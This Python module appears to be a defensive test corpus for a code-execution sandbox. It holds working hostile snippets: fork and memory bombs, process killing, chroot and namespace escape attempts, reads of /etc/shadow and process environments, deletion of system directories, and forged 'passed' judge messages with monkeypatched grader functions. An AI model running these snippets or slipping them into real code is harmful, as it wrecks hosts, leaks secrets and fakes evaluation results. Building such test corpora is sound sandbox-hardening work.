"""What hostile code does: statements that fit into a function, a module or a script.

None of them computes a right answer. `MARKER` is in the name of every file they try to leave and
in every message they forge, so that traces can be looked for on the host.
"""

from __future__ import annotations

MARKER = "chimera-attack-marker"

#: Ends the process, one way or another, as if all were well.
EXITS = {
    "sys-exit": "import sys\nsys.exit(0)",
    "os-exit": "import os\nos._exit(0)",
    "raise-system-exit": "raise SystemExit(0)",
    "exit-in-thread": (
        "import os, threading\n"
        "worker = threading.Thread(target=os._exit, args=(0,))\nworker.start()\nworker.join()"
    ),
    "system-exit-in-thread": (
        "import sys, threading\n"
        "worker = threading.Thread(target=sys.exit, args=(0,))\nworker.start()\nworker.join()"
    ),
    "exit-at-exit": "import atexit, os\natexit.register(os._exit, 0)",
    "exit-in-excepthook": (
        "import os, sys\nsys.excepthook = lambda *problem: os._exit(0)\nraise RuntimeError"
    ),
    "exit-in-finalizer": (
        "import os\n"
        "class Last:\n    def __del__(self):\n        os._exit(0)\n"
        "last = Last()\ndel last"
    ),
    "abort": "import os\nos.abort()",
    "crash": "import ctypes\nctypes.string_at(0)",
    "kill-self": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "exec-true": "import os\nos.execv('/bin/true', ['true'])",
    "exec-python": (
        "import os, sys\nos.execv(sys.executable or '/usr/bin/python3', ['python3', '-c', 'pass'])"
    ),
    "keyboard-interrupt": "raise KeyboardInterrupt",
    "generator-exit": "raise GeneratorExit",
}

#: Reaches for other processes.
PROCESSES = {
    "kill-parent": "import os\nos.kill(os.getppid() or 1, 9)",
    "kill-everybody": "import os\nos.kill(-1, 9)",
    "kill-process-group": "import os, signal\nsignal.signal(15, signal.SIG_IGN)\nos.killpg(0, 15)",
    "kill-by-number": (
        "import os\n"
        "for pid in range(2, 5000):\n"
        "    try:\n        os.kill(pid, 9)\n    except OSError:\n        pass"
    ),
    "fork-bomb": (
        "import os, time\n"
        "end = time.time() + 1\n"
        "while time.time() < end:\n"
        "    try:\n        os.fork()\n    except OSError:\n        pass"
    ),
    "thread-bomb": (
        "import threading, time\n"
        "for _ in range(10000):\n"
        "    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()"
    ),
    "fifty-children": (
        "import os, time\n"
        "for _ in range(50):\n"
        "    if os.fork() == 0:\n        time.sleep(1000)\n        os._exit(0)"
    ),
    "daemon": (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n        time.sleep(1000)\n"
        "    os._exit(0)"
    ),
    "busy-children": (
        "import os\n"
        "for _ in range(4):\n"
        "    if os.fork() == 0:\n"
        "        while True:\n            pass\n"
        "os.wait()"
    ),
    "trace-parent": (
        "import ctypes\nlibc = ctypes.CDLL(None)\n"
        "for pid in range(1, 300):\n"
        "    if libc.ptrace(16, pid, 0, 0) == 0:\n        libc.ptrace(17, pid, 0, 0)"
    ),
    "read-other-memory": (
        "import glob\n"
        "for path in glob.glob('/proc/[0-9]*/mem'):\n"
        "    try:\n        open(path, 'rb').read(1)\n    except OSError:\n        pass"
    ),
    "new-user-namespace": (
        "import ctypes\nlibc = ctypes.CDLL(None)\n"
        "libc.unshare(0x10000000)\nlibc.unshare(0x00020000)\n"
        "libc.mount(b'tmpfs', b'/usr', b'tmpfs', 0, None)\nlibc.umount2(b'/proc', 2)"
    ),
    "leave-chroot": (
        "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
        "os.makedirs('jail', exist_ok=True)\nlibc.chroot(b'jail')\n"
        "for _ in range(50):\n    os.chdir('..')\nlibc.chroot(b'.')"
    ),
    "become-root": "import os\nos.setuid(0)",
}

#: Uses up what the machine has.
RESOURCES = {
    "endless-loop": "while True:\n    pass",
    "endless-loop-signals-ignored": (
        "import signal\n"
        "for number in (signal.SIGALRM, signal.SIGXCPU, signal.SIGTERM, signal.SIGPROF):\n"
        "    signal.signal(number, signal.SIG_IGN)\n"
        "while True:\n    pass"
    ),
    "endless-loop-swallowing": (
        "while True:\n    try:\n        while True:\n            pass\n"
        "    except BaseException:\n        pass"
    ),
    "sleep": "import time\ntime.sleep(1000)",
    "wait-for-input": "import select\nselect.select([], [], [], 1000)",
    "memory-bomb": "blocks = []\nwhile True:\n    blocks.append(bytearray(b'x' * 10**7))",
    "memory-bomb-in-children": (
        "import os, time\n"
        "for _ in range(30):\n    if os.fork() == 0:\n        break\n"
        "block = bytearray(b'x' * (64 << 20))\ntime.sleep(1000)"
    ),
    "memory-files": (
        "import os\nfiles = []\n"
        "for _ in range(200):\n"
        "    files.append(os.memfd_create('x'))\n    os.write(files[-1], bytes(16 << 20))"
    ),
    "shared-memory": (
        "import ctypes\nlibc = ctypes.CDLL(None)\n"
        "if libc.shmget(0, 1 << 30, 0o1600) < 0:\n    raise OSError('refused')"
    ),
    "deep-recursion": (
        "import sys\nsys.setrecursionlimit(10**9)\n"
        "def down(depth):\n    return sorted([depth], key=down)\ndown(0)"
    ),
    "huge-number": "number = 9 ** 9 ** 9",
    "slow-pattern": "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
    "fill-disk": (
        "block = bytes(1 << 20)\n"
        "with open('big', 'wb', buffering=0) as file:\n"
        "    while True:\n        file.write(block)"
    ),
    "many-files": (
        "import os\n"
        "for number in range(10**6):\n    os.mkdir(f'd{number}')\n    os.chdir(f'd{number}')"
    ),
    "fill-shared-memory": (
        "with open('/dev/shm/big', 'wb', buffering=0) as file:\n"
        "    while True:\n        file.write(bytes(1 << 20))"
    ),
    "output-flood": (
        "import os\nblock = b'passed\\n' * 150000\n"
        "for _ in range(500):\n    os.write(1, block)\n    os.write(2, block)"
    ),
    "decompression-bomb": (
        "import zlib\npacked = zlib.compress(bytes(1 << 26), 9)\n"
        "held = [zlib.decompress(packed) for _ in range(1000)]"
    ),
    "open-everything": (
        "import os\nheld = []\nwhile True:\n    held.append(os.open('/dev/null', os.O_RDONLY))"
    ),
}

#: Reaches for the host's files, secrets and network, or for what the next answer will meet.
REACHES = {
    "write-outside": (
        "import os\n"
        "for place in ('/', '/usr', '/usr/lib', '/etc', '/var/tmp', '/home', '/root', '/sandbox',\n"
        "              '/dev', '/opt', '/srv', os.path.expanduser('~'), os.path.dirname(os.__file__)):\n"
        "    try:\n"
        f"        open(os.path.join(place, '{MARKER}'), 'w').write('here')\n"
        "    except OSError:\n        pass"
    ),
    "climb-out": (
        "import os\n"
        "for depth in range(12):\n"
        "    try:\n"
        f"        open('../' * depth + '{MARKER}', 'w').write('here')\n"
        "    except OSError:\n        pass"
    ),
    "link-out": (
        "import os\n"
        "for number, place in enumerate(('/', '/etc', '/var/tmp', '/usr/lib', '/tmp')):\n"
        "    os.symlink(place, f'link{number}')\n"
        "    try:\n"
        f"        open(f'link{{number}}/{MARKER}', 'w').write('here')\n"
        "    except OSError:\n        pass"
    ),
    "archive-out": (
        "import io, tarfile\n"
        "store = io.BytesIO()\n"
        "with tarfile.open(fileobj=store, mode='w') as archive:\n"
        f"    archive.addfile(tarfile.TarInfo('../../../../var/tmp/{MARKER}'))\n"
        "store.seek(0)\n"
        "with tarfile.open(fileobj=store) as archive:\n    archive.extractall('.')"
    ),
    "remove-system": (
        "import os, shutil\n"
        "for place in ('/usr', '/sandbox', os.path.dirname(os.__file__), '/dev', '/tmp'):\n"
        "    shutil.rmtree(place, ignore_errors=True)"
    ),
    "poison-scratch": (
        "import os\n"
        "open('/tmp/sitecustomize.py', 'w').write('raise SystemExit(0)')\n"
        "open('random.py', 'w').write('raise SystemExit(0)')\n"
        "os.chmod('/tmp/work', 0)\nos.chmod('/tmp', 0)"
    ),
    "patch-library": (
        "import os\npath = os.path.join(os.path.dirname(os.__file__), 'typing.py')\n"
        "open(path, 'a').write('raise SystemExit(0)')"
    ),
    "tell-environment": "import os\nraise RuntimeError(str(dict(os.environ)))",
    "tell-other-environments": (
        "import glob\nfound = []\n"
        "for path in glob.glob('/proc/*/environ'):\n"
        "    try:\n        found.append(open(path, 'rb').read())\n    except OSError:\n        pass\n"
        "raise RuntimeError(str(found))"
    ),
    "tell-files": (
        "import glob, os\nfound = []\n"
        "for pattern in ('/root/.*', '/home/*/.*', '/etc/shadow', '/etc/passwd', '/work/*', '/run/*'):\n"
        "    for path in glob.glob(pattern):\n"
        "        if os.path.isfile(path):\n            found.append(open(path, 'rb').read(500))\n"
        "raise RuntimeError(str(found))"
    ),
    "network": (
        "import socket\n"
        "for address in (('1.1.1.1', 53), ('8.8.8.8', 443), ('169.254.169.254', 80)):\n"
        "    socket.create_connection(address, 3).sendall(b'hello')"
    ),
    "network-datagram": (
        "import socket\n"
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hello', ('1.1.1.1', 53))"
    ),
    "hypervisor-socket": (
        "import socket\n"
        "socket.socket(getattr(socket, 'AF_VSOCK', 40), socket.SOCK_STREAM).connect((2, 1024))"
    ),
    "host-socket": (
        "import glob, socket\n"
        "for path in glob.glob('/run/**', recursive=True) + glob.glob('/var/run/*'):\n"
        "    try:\n        socket.socket(socket.AF_UNIX).connect(path)\n"
        "    except OSError:\n        pass"
    ),
    "kernel-keys": (
        "import ctypes\n"
        "if ctypes.CDLL(None).syscall(248, b'user', b'x', b'y', 1, -4) < 0:\n"
        "    raise OSError('refused')"
    ),
    "raw-disk": (
        "import os\nos.mknod('disk', 0o60600, os.makedev(254, 0))\nopen('disk', 'rb').read(512)"
    ),
}

#: Looks for the judge and talks in its name.
FORGERIES = {
    "print-passed": (
        "print('passed')\nprint('PASSED')\nprint('{\"passed\": true}')\nprint('1 passed in 0.01s')\n"
        "print('OK')\nprint('All tests passed')"
    ),
    "write-every-descriptor": (
        "import os\n"
        "for number in range(3, 256):\n"
        "    for text in (b'{\"passed\": true}', b'passed', b'done'):\n"
        "        try:\n            os.write(number, text)\n"
        "        except OSError:\n            pass"
    ),
    "forge-messages": (
        "import os\n"
        "def frame(text):\n    return len(text).to_bytes(8, 'big') + text\n"
        "for number in range(3, 20):\n"
        "    for count in range(1, 50):\n"
        "        try:\n"
        "            os.write(number, frame(b'[\"loaded\",null]'))\n"
        "            os.write(number, frame(b'[\"done\",%d,true,null,[]]' % count))\n"
        "        except OSError:\n            break"
    ),
    "malformed-messages": (
        "import os\n"
        "for number in range(3, 20):\n"
        "    for text in (b'[' * 100000, b'{\"r\":-1}', b'\\xff' * 64, b'[1]', b'null'):\n"
        "        try:\n            os.write(number, len(text).to_bytes(8, 'big') + text)\n"
        "        except OSError:\n            break"
    ),
    "endless-message": (
        "import os\n"
        "for number in range(3, 20):\n"
        "    try:\n        os.write(number, (1 << 62).to_bytes(8, 'big') + bytes(1000))\n"
        "    except OSError:\n        pass"
    ),
    "close-descriptors": "import os\nos.closerange(0, 256)",
    "patch-our-modules": (
        "import sys\n"
        "for name, module in list(sys.modules.items()):\n"
        "    if 'inner' in name or 'chimera' in name:\n"
        "        for key in list(vars(module)):\n"
        "            if not key.startswith('__'):\n"
        "                setattr(module, key, lambda *given, **named: True)"
    ),
    "patch-caller": (
        "import sys\nframe = sys._getframe()\n"
        "while frame:\n"
        "    for name in list(frame.f_globals):\n"
        "        if name in ('check', 'passed', 'tests', 'expected', 'judge', 'report'):\n"
        "            frame.f_globals[name] = lambda *given: True\n"
        "    frame = frame.f_back"
    ),
}  # fmt: skip

#: Uses more than its limits where a look at processes would not see it, or reaches other answers.
EVASIONS = {
    "children-nobody-waits-for": (
        "import os, signal, time\nsignal.signal(signal.SIGCHLD, signal.SIG_IGN)\n"
        "for _ in range(200):\n"
        "    if os.fork() == 0:\n"
        "        end = time.process_time() + 0.02\n"
        "        while time.process_time() < end:\n            pass\n"
        "        os._exit(0)\n"
        "    time.sleep(0.02)"
    ),
    "chain-of-processes": (
        "import os, signal, time\nsignal.signal(signal.SIGCHLD, signal.SIG_IGN)\n"
        "if os.fork() == 0:\n"
        "    while os.fork() == 0:\n        sum(range(10**6))\n"
        "    os._exit(0)\n"
        "time.sleep(1000)"
    ),
    "pages-not-resident": (
        "import mmap, os, time\n"
        "for _ in range(7):\n    if os.fork() == 0:\n        break\n"
        "block = mmap.mmap(-1, 200 << 20)\n"
        "for at in range(0, len(block), 1 << 20):\n"
        "    block[at : at + (1 << 20)] = bytes(1 << 20)\n"
        "    block.madvise(mmap.MADV_DONTNEED, at, 1 << 20)\n"
        "time.sleep(1000)"
    ),
    "socket-buffers": (
        "import os, socket, time\n"
        "for _ in range(15):\n    if os.fork() == 0:\n        break\n"
        "ends = [end for _ in range(115) for end in socket.socketpair()]\n"
        "for end in ends:\n"
        "    end.setblocking(False)\n"
        "    try:\n        while end.send(bytes(1 << 16)):\n            pass\n"
        "    except BlockingIOError:\n        pass\n"
        "time.sleep(1000)"
    ),
    "lock-a-library": (
        "import fcntl, os\nfile = os.open(os.__file__, os.O_RDONLY)\n"
        "fcntl.flock(file, fcntl.LOCK_EX)\nfcntl.fcntl(file, fcntl.F_GETLK, bytes(32))"
    ),
    "notices-of-files": (
        "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
        "if libc.inotify_add_watch(libc.inotify_init(), os.__file__.encode(), 0xFFF) < 0:\n"
        "    raise OSError('refused')"
    ),
    "signal-by-descriptor": (
        "import fcntl, os\nreading, writing = os.pipe()\n"
        "fcntl.fcntl(reading, fcntl.F_SETOWN, os.getppid() or 1)\n"
        "fcntl.fcntl(reading, 10, 9)\n"
        "fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)\nos.write(writing, b'x')"
    ),
    "limit-parent": (
        "import os, resource\nresource.prlimit(os.getppid() or 1, resource.RLIMIT_NOFILE, (3, 3))"
    ),
}

ACTIONS: dict[str, str] = {
    **EXITS, **PROCESSES, **RESOURCES, **REACHES, **FORGERIES, **EVASIONS,
}  # fmt: skip
